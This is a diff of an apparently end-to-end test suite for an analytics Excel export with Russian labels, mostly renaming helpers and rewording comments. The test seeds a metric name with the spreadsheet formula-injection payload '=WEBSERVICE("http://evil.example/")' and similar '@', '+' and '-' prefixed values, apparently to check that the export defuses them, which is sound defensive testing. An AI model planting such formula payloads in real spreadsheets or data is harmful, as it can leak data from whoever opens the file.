@@ -2,8 +2,8 @@ import ExcelJS from 'exceljs'
 import { expect, it } from 'vitest'
 import { makeAnalyticsWorld, namesOf, numberOf } from '@/e2e/support/analytics-world'
 import { signedIn } from '@/e2e/support/api'
-import { contents, differences } from '@/e2e/support/postgres/table-checksums'
-import { publishAfresh } from '@/e2e/support/publications'
+import { differences, tableChecksums } from '@/e2e/support/postgres/table-checksums'
+import { republishAll } from '@/e2e/support/publications'
 import { METHOD_VERSION } from '@/lib/calc/method-version'
 import { roundTo } from '@/lib/calc/rounding'
 import { companyScope } from '@/lib/core/auth/scope'
@@ -14,17 +14,17 @@ import { exportReport } from '@/lib/features/analytics/export/export'
 import { reportExportQuerySchema } from '@/lib/features/analytics/schema'
 
 const world = await makeAnalyticsWorld()
-// Text that a spreadsheet would run.
+// Text that a spreadsheet would run as a formula.
 await db().metric.update({
   where: { id: world.metrics.m1 },
   data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
 })
 await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
-await publishAfresh()
+await republishAll()
 
 const query = (text: Record<string, string>) => reportExportQuerySchema.parse(text)
 
-/** The workbook as a person of organisation k gets it. */
+/** The workbook of a person of organisation k. */
 async function workbookOf(k: number, filters: Record<string, string> = {}) {
   const session = await findSession((await signedIn(world.managers[k] ?? 0)).cookies.split(/[=;]/)[1])
   if (!session) throw new Error('no session')
@@ -53,7 +53,7 @@ function valuesOf(sheet: ExcelJS.Worksheet): unknown[][] {
     .flatMap((row) => (Array.isArray(row) ? [Array.from(row.slice(1), (value) => value ?? null)] : []))
 }
 
-/** The rows of an indicator on the second sheet by their words, the values of its periods; it stands over the others. */
+/** An indicator's rows on the second sheet by label; the row of its values comes first. */
 function rowsOf(workbook: Workbook, indicator: string): Record<string, ExcelJS.Row> {
   const rows: Record<string, ExcelJS.Row> = {}
   let isWithin = false
@@ -83,7 +83,7 @@ const TOO_FEW = 'мало организаций'
 
 it('is a download with its name in Russian, and leaves an audit row', async () => {
   const client = await signedIn(world.managers[3] ?? 0)
-  const before = await contents()
+  const before = await tableChecksums()
   const answer = await client.get(
     '/api/analytics-report-data/export?year_from=2025&year_to=2026&company_types=1',
   )
@@ -105,8 +105,8 @@ it('is a download with its name in Russian, and leaves an audit row', async () =
     entityId: world.companies[3],
     after: { years: [2025, 2026], organisations: 24, filters: { company_types: [1], is_emergency: null } },
   })
-  // X3: besides its audit row the call changes nothing.
-  expect(differences(before, await contents())).toEqual(['table public.audit_events'])
+  // X3: the call writes nothing but its audit row.
+  expect(differences(before, await tableChecksums())).toEqual(['table public.audit_events'])
 })
 
 it('the first sheet: conditions, number of organisations, moment, method', async () => {
@@ -228,7 +228,7 @@ it('a period that is not published has no number of organisations rather than fe
   expect(new Set(later)).toEqual(new Set([null]))
   await db().$executeRaw`DELETE FROM publications`
   const { workbook: first } = await workbookOf(3)
-  await publishAfresh()
+  await republishAll()
   const told = valuesOf(sheetOf(first, 'Условия')).find(([label]) => label === 'Организаций в группе (N)')
   expect(told?.[1]).toBe('выпуска ещё не было')
   expect(JSON.stringify(valuesOf(sheetOf(first, 'Отчёт')))).not.toContain(FEW)
@@ -265,7 +265,7 @@ it('every figure is the answer’s for the same filters, of its decimals; rows a
       row.eachCell((cell, column) => {
         expect(cell.font?.name).toBe('Arial')
         if (!cell.alignment?.wrapText || typeof cell.value !== 'string') return
-        // No line holds more than a character of half the font's size for each of its column's width.
+        // Estimated line length: a character is half the font size wide.
         const width = Number(sheet.getColumn(column).width)
         const lines = cell.value
           .split('\n')
@@ -306,7 +306,7 @@ it('numbers have their decimals and signs, the header stays and is printed on ev
     value: -20,
     numFmt: '+#,##0.00;−#,##0.00;#,##0.00',
   })
-  // What chance may have made is neither good nor bad.
+  // A change that may be chance is neither good nor bad.
   expect(formatOf('=WEBSERVICE("http://evil.example/")', 'Изменение', 5)).not.toMatch(/[▲▼]/)
   expect(rowsOf(workbook, '=WEBSERVICE("http://evil.example/")').Значение?.getCell(LEADING)).toMatchObject({
     value: 3,
@@ -381,7 +381,7 @@ it('A5 names no other organisation, and a group of four shows no comparison', as
   expect(numbersOf('Медиана группы')).toEqual([])
   expect(numbersOf('Место')).toEqual([])
   expect(valuesIn(rowsOf(workbook, 'Частота').Значение)).toEqual([90, 60, null, null, 80])
-  // Variables of the group: only the own 4/200 and so on are there.
+  // Group's variables are absent: only the own 4/200 and so on.
   expect(numbersOf('b — Величина b')).toEqual([200, 100, 300, 200, 100, 300, 200, 200])
 })
 
